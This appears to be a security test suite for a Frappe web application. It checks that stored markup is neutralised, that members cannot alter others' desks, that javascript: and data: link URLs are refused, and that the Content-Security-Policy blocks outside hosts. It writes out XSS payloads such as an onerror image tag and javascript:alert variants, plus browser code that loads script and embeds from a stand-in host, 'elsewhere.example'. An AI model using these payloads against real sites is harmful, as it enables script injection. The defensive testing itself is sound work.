"""The Desk against those who may write: texts run nothing, things of others stay theirs, links lead somewhere, no other host."""

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from factories import inside
from factories.desk import Desk
from factories.http import Client
from factories.profile import few
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.web
MARKUP = "<img src=x onerror=window.hit=1>"
"""In quotes it is JSON, which the framework cleans of nothing."""
CHAIR, OTHER = "chair@esaylov.example", "secretary@esaylov.example"
WRITTEN = """
for doctype in given["doctypes"]:
	row = frappe.new_doc(doctype)
	row.name = given["name"]
	for field in row.meta.fields:
		if field.fieldtype in ("Data", "Small Text", "Text", "Long Text") and not field.is_virtual:
			row.set(field.fieldname, given["text"][: field.length or 140])
	row.db_insert()
"""
REMOVED = """
for doctype in given["doctypes"]:
	frappe.db.delete(doctype, {"name": given["name"]})
"""
DOCTYPES = ("Feedback", "Appeal Remark", "Candidate", "Participant Organization")
"""What guests, applicants and members write, and what is made of it."""


@pytest.fixture
def desk(page: Page, keep: Callable[[str], Path]) -> Desk:
	"""The Desk of Administrator, who sees everything."""
	answer = page.context.request.post("/api/method/login", form={"usr": "Administrator", "pwd": "admin"})
	assert answer.ok, answer.text()
	return Desk(page, keep)


@pytest.fixture(scope="module")
def written() -> Iterator[str]:
	"""A row of each DocType full of markup, as if it had passed every check; their name."""
	name = "sinov-belgilari"
	inside.run(WRITTEN, doctypes=DOCTYPES, name=name, text=f'"{MARKUP}"')
	yield name
	inside.run(REMOVED, doctypes=DOCTYPES, name=name)


@pytest.mark.full
def test_a_text_in_quotes_is_cleaned_as_any_text_is(guest: Client) -> None:
	text = json.dumps([MARKUP, {MARKUP: json.dumps(MARKUP)}])
	sent = guest.post("feedback.send", page="voters", text=text)
	assert sent.status_code == 200, sent.text
	number = sent.json()["message"]["number"]
	program = "answer = frappe.db.get_value('Feedback', given['name'], ['text', 'subject'])"
	stored = inside.run(program, name=number)
	inside.run("frappe.db.delete('Feedback', {'name': given['name']})", name=number)
	assert not [value for value in stored if "onerror" in value]


SHOWN = {
	"List": "name => cur_list?.doctype === name && cur_list.view_name === 'List' && cur_list.data.length === 1",
	"Report": "name => cur_list?.doctype === name && cur_list.view_name === 'Report' && cur_list.datatable",
	"Form": "name => cur_frm?.doctype === name && cur_frm.$wrapper.is(':visible')",
}
"""View to what says that it stands on the screen."""


@pytest.mark.parametrize("doctype", few(DOCTYPES, DOCTYPES[0].__eq__))
def test_markup_of_others_is_a_text_in_list_report_and_form(desk: Desk, written: str, doctype: str) -> None:
	# the first by its own address: another list that still opens would take the filter that is meant for this one
	page = desk.open(f"{doctype.lower().replace(' ', '-')}/view/list?name={written}")
	for view, is_shown in SHOWN.items():
		if view != "List":
			route = ["Form", doctype, written] if view == "Form" else ["List", doctype, view]
			page.evaluate(
				"([route, name]) => { frappe.route_options = { name }; frappe.set_route(route) }",
				[route, written],
			)
		page.wait_for_function(is_shown, arg=doctype)
		desk.settle()
		assert page.locator("img[onerror]").count() == 0, (doctype, view)
		assert page.evaluate("window.hit") is None, (doctype, view)
	desk.picture(f"markup-{doctype.lower()}")


def entered(client: Client, doctype: str, **values: object) -> int:
	answer = client.session.post(f"{client.address}/api/resource/{doctype}", json=values, timeout=60)
	if answer.ok:
		name = answer.json()["data"]["name"]
		inside.run("frappe.db.delete(given['doctype'], {'name': given['name']})", doctype=doctype, name=name)
	return answer.status_code


@pytest.fixture(scope="module")
def is_here() -> Callable[[str], bool]:
	"""Whether this bench has a DocType: Frappe 15 has no sidebars, icons and layouts of its Desk."""
	names = set(inside.run("answer = frappe.get_all('DocType', pluck='name')"))
	assert {"Workspace", "Custom HTML Block", "List Filter", "Kanban Board"} <= names
	return names.__contains__


@pytest.mark.full
def test_a_member_changes_nobodys_desk(
	login: Callable[[str], Client], is_here: Callable[[str], bool]
) -> None:
	chair = login("chair")
	block = {"html": "<b>1</b>", "script": "alert(1)", "private": 1}
	item = {"type": "Link", "label": "x", "link_type": "URL", "url": "https://uz.example"}
	for doctype, values in (
		("Custom HTML Block", {"name": "x", **block}),
		("Workspace", {"title": "x", "label": "x", "for_user": OTHER, "content": "[]"}),
		("Workspace", {"title": "x", "label": "x", "public": 1, "content": "[]"}),
		("Workspace Sidebar", {"title": "x", "items": [item]}),
		("Workspace Sidebar", {"title": "x", "for_user": OTHER, "items": [item]}),
		("Desktop Icon", {"label": "x", "standard": 1, "icon_type": "Link", "link": "https://uz.example"}),
		("List Filter", {"filter_name": "x", "reference_doctype": "Appeal", "filters": "[]"}),
		("Kanban Board", {"kanban_board_name": "x", "reference_doctype": "ToDo", "field_name": "status"}),
		("Desktop Layout", {"user": OTHER, "layout": "[]"}),
		("Event", {"subject": "x", "starts_on": "2030-01-01 10:00:00", "event_type": "Public"}),
	):
		if is_here(doctype):
			assert entered(chair, doctype, **values) == 403, (doctype, values)
	for doctype in filter(is_here, ("Workspace", "Workspace Sidebar")):
		program = (
			"answer = frappe.get_all(given['doctype'], {'for_user': ['is', 'not set']}, pluck='name')[0]"
		)
		address = f"{chair.address}/api/resource/{doctype}/{inside.run(program, doctype=doctype)}"
		for method in ("PUT", "DELETE"):
			answer = chair.session.request(method, address, json={"title": "x"}, timeout=60)
			assert answer.status_code in (403, 417), (method, doctype)


PAGES = {
	"Workspace": ("shortcuts", {"type": "URL", "label": "x"}, {"content": "[]"}),
	"Workspace Sidebar": ("items", {"type": "Link", "label": "x", "link_type": "URL"}, {}),
}
"""What a member may have of their own: DocType to the table of its links, a link, and what it needs beside them."""


@pytest.mark.parametrize("doctype", PAGES)
def test_an_own_page_is_ones_own_and_its_links_lead_somewhere(
	login: Callable[[str], Client], is_here: Callable[[str], bool], doctype: str
) -> None:
	if not is_here(doctype):
		pytest.skip(f"this Frappe has no {doctype}")
	chair = login("chair")
	table, link, beside = PAGES[doctype]
	own = {"title": "Sinov", "label": "Sinov", "for_user": CHAIR, **beside}
	for url, status in (
		("https://uz.example/a", 200),
		("/uz", 200),
		("javascript:alert(1)", 422),
		(" java\nscript:alert(1)", 422),
		("data:text/html,<script>alert(1)</script>", 422),
	):
		found = entered(chair, doctype, **own, **{table: [{**link, "url": url}]})
		assert found == status, url
	if doctype == "Workspace Sidebar":
		script = {**link, "url": "/uz", "display_depends_on": "eval:alert(1)"}
		assert entered(chair, doctype, **own, **{table: [script]}) == 403


@pytest.mark.parametrize("path", ["/update-password", "/printview?doctype=User&name=Guest"])
def test_a_page_of_the_framework_reaches_no_other_host(guest: Client, path: str) -> None:
	answer = guest.session.get(f"{guest.address}{path}", timeout=60)
	policy = dict(part.strip().split(" ", 1) for part in answer.headers["Content-Security-Policy"].split(";"))
	assert policy["script-src"] == "'self' 'unsafe-inline' 'unsafe-eval'"
	assert policy["object-src"] == "'none'"
	assert (policy["base-uri"], policy["form-action"], policy["frame-ancestors"]) == ("'self'",) * 3
	assert "*" not in str(policy)


@pytest.mark.full
def test_a_script_that_got_in_brings_no_other_and_tells_nobody(desk: Desk) -> None:
	page = desk.open("todo")
	assert desk.faults == []
	asked: list[str] = []
	page.on("requestfinished", lambda request: asked.append(request.url))
	told = page.evaluate(
		"""async () => {
			const violated = [];
			document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
			await fetch("https://elsewhere.example/?told").catch(() => {});
			for (const [tag, where] of [["script", "src"], ["img", "src"], ["object", "data"], ["iframe", "src"]]) {
				const made = document.createElement(tag);
				made[where] = `https://elsewhere.example/${tag}`;
				document.body.append(made);
			}
			const until = Date.now() + 120_000;
			while (new Set(violated).size < 5 && Date.now() < until) await new Promise((next) => setTimeout(next, 50));
			return violated.sort();
		}"""
	)
	assert {"connect-src", "img-src", "object-src"} < set(told)
	assert not [url for url in asked if re.search("elsewhere", url)]
	expect(page.locator(".page-head:visible").first).to_be_visible()


@pytest.mark.full
def test_no_loop_of_a_template_has_a_variable_that_is_a_word_of_javascript(desk: Desk) -> None:
	"""The framework draws three letters by lot; here the lot falls on "new" each time."""
	page = desk.open("todo")
	drawn = page.evaluate(
		"""() => {
			const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
			const chance = Math.random;
			let turn = 0;
			Math.random = () => (letters.indexOf("new"[turn++ % 3]) + 0.5) / letters.length;
			try {
				return frappe.render("{% for row in rows %}<{{ row }}>{% endfor %}", { rows: [1, 2] });
			} finally {
				Math.random = chance;
			}
		}"""
	)
	assert drawn == "<1><2>"
